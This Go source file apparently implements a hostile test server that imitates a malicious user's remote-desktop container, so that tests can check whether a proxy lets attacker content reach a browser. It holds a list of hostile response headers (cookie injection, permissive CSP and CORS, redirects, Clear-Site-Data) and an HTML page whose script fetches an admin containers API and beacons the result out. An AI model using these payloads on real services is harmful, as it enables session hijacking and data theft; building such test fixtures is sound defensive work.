// Command evilserver is a malicious player's desktop: what a player who
// killed websockify and listened on 6080 themselves could answer. Every
// answer carries the marker EVIL-DESKTOP-MARKER and hostile headers, so a
// test can tell whether anything of it reached a browser.
//
//   - Any plain request, on any path (/vnc.html, /websockify, /app/ui.js...):
//     first a 103 Early Hints with hostile headers, then 200 with the
//     attacker's HTML and hostile headers (Set-Cookie, Service-Worker-Allowed,
//     Clear-Site-Data, Refresh, Location, Content-Security-Policy,
//     Access-Control-Allow-*...).
//   - A websocket upgrade on any path but /nope: 101 with the handshake
//     headers plus Set-Cookie, Sec-WebSocket-Extensions and the rest; the
//     first message is JSON of the request it received (method, path,
//     remote address, headers); then hostile RFB, or, on every fifth
//     connection, nothing but an echo (rfb.go).
//   - A websocket upgrade on /nope: 404 with the hostile headers.
//   - Raw TCP on :5900: "RFB 003.008\n".
//   - VNC_PASSWORD must be set, RESOLUTION is accepted: the image contract,
//     so that a session becomes ready.
//
// Standard library only, built as a static binary like rd-tiny's server.
package main

import (
	"bufio"
	"crypto/sha1"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

const (
	marker = "EVIL-DESKTOP-MARKER"
	wsGUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
)

// hostile are the headers a container must never get to a browser.
var hostile = [][2]string{
	{"Set-Cookie", "session=" + marker + "; Path=/"},
	{"Set-Cookie", "evil=" + marker + "; Path=/; Domain=127.0.0.1"},
	{"Set-Cookie2", "evil=" + marker},
	{"Service-Worker-Allowed", "/"},
	{"Clear-Site-Data", `"*"`},
	{"Refresh", "0; url=/" + marker},
	{"Location", "/" + marker},
	{"Content-Security-Policy", "script-src * 'unsafe-inline'"},
	{"Access-Control-Allow-Origin", "*"},
	{"Access-Control-Allow-Credentials", "true"},
	{"Strict-Transport-Security", "max-age=63072000"},
	{"Link", "</" + marker + ".js>; rel=preload; as=script"},
	{"X-Frame-Options", "ALLOWALL"},
	{"Content-Disposition", "inline; filename=" + marker + ".html"},
	{"Alt-Svc", `h2="127.0.0.1:1"`},
	{"X-Evil", marker},
}

const page = `<!DOCTYPE html>
<html><head><title>` + marker + `</title></head>
<body><h1>` + marker + `</h1>
<script>fetch('/remote-desktop/admin/api/containers').then(r => r.text()).then(t => navigator.sendBeacon('/` + marker + `', t))</script>
</body></html>
`

func main() {
	log.SetFlags(log.LstdFlags | log.LUTC)
	log.SetPrefix("evilserver: ")
	if os.Getenv("VNC_PASSWORD") == "" {
		log.Fatal("VNC_PASSWORD is not set")
	}
	vncLn, err := net.Listen("tcp", ":5900")
	if err != nil {
		log.Fatal(err)
	}
	go func() {
		for {
			c, err := vncLn.Accept()
			if err != nil {
				log.Fatal(err)
			}
			go func() {
				defer c.Close()
				_, _ = io.WriteString(c, "RFB 003.008\n")
				_, _ = io.Copy(io.Discard, c)
			}()
		}
	}()
	srv := &http.Server{Addr: ":6080", Handler: http.HandlerFunc(serve), ReadHeaderTimeout: 10 * time.Second}
	log.Fatal(srv.ListenAndServe())
}

func addHostile(h http.Header) {
	for _, kv := range hostile {
		h[kv[0]] = append(h[kv[0]], kv[1])
	}
}

func serve(w http.ResponseWriter, r *http.Request) {
	if strings.EqualFold(r.Header.Get("Upgrade"), "websocket") && r.URL.Path != "/nope" {
		upgrade(w, r)
		return
	}
	addHostile(w.Header())
	if r.Header.Get("Upgrade") == "" {
		w.WriteHeader(http.StatusEarlyHints)
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	if r.URL.Path == "/nope" {
		w.WriteHeader(http.StatusNotFound)
	} else {
		w.WriteHeader(http.StatusOK)
	}
	_, _ = io.WriteString(w, page)
}

func upgrade(w http.ResponseWriter, r *http.Request) {
	key := strings.TrimSpace(r.Header.Get("Sec-WebSocket-Key"))
	hj, ok := w.(http.Hijacker)
	if !ok || key == "" {
		http.Error(w, marker, http.StatusBadRequest)
		return
	}
	conn, rw, err := hj.Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	sum := sha1.Sum([]byte(key + wsGUID))
	var b strings.Builder
	b.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n")
	b.WriteString("Sec-WebSocket-Accept: " + base64.StdEncoding.EncodeToString(sum[:]) + "\r\n")
	if strings.Contains(r.Header.Get("Sec-WebSocket-Protocol"), "binary") {
		b.WriteString("Sec-WebSocket-Protocol: binary\r\n")
	}
	b.WriteString("Sec-WebSocket-Extensions: permessage-deflate\r\n")
	for _, kv := range hostile {
		fmt.Fprintf(&b, "%s: %s\r\n", kv[0], kv[1])
	}
	b.WriteString("\r\n")
	if _, err := rw.WriteString(b.String()); err != nil {
		return
	}
	seen, _ := json.Marshal(map[string]any{
		"method": r.Method, "path": r.URL.Path, "remote_addr": r.RemoteAddr,
		"host": r.Host, "headers": r.Header,
	})
	if writeFrame(rw.Writer, 0x1, seen) != nil || rw.Flush() != nil {
		return
	}
	afterGreeting(rw)
}

func readFrame(br *bufio.Reader) (byte, []byte, error) {
	var hdr [2]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return 0, nil, err
	}
	n := uint64(hdr[1] & 0x7F)
	switch n {
	case 126:
		var ext [2]byte
		if _, err := io.ReadFull(br, ext[:]); err != nil {
			return 0, nil, err
		}
		n = uint64(binary.BigEndian.Uint16(ext[:]))
	case 127:
		var ext [8]byte
		if _, err := io.ReadFull(br, ext[:]); err != nil {
			return 0, nil, err
		}
		n = binary.BigEndian.Uint64(ext[:])
	}
	if n > 1<<20 {
		return 0, nil, errors.New("frame too large")
	}
	var mask [4]byte
	if hdr[1]&0x80 != 0 {
		if _, err := io.ReadFull(br, mask[:]); err != nil {
			return 0, nil, err
		}
	}
	p := make([]byte, n)
	if _, err := io.ReadFull(br, p); err != nil {
		return 0, nil, err
	}
	for i := range p {
		p[i] ^= mask[i%4]
	}
	return hdr[0] & 0x0F, p, nil
}

func writeFrame(bw *bufio.Writer, op byte, p []byte) error {
	hdr := []byte{0x80 | op}
	switch n := len(p); {
	case n < 126:
		hdr = append(hdr, byte(n))
	case n <= 0xFFFF:
		hdr = append(hdr, 126, byte(n>>8), byte(n))
	default:
		var ext [8]byte
		binary.BigEndian.PutUint64(ext[:], uint64(n))
		hdr = append(append(hdr, 127), ext[:]...)
	}
	if _, err := bw.Write(hdr); err != nil {
		return err
	}
	_, err := bw.Write(p)
	return err
}
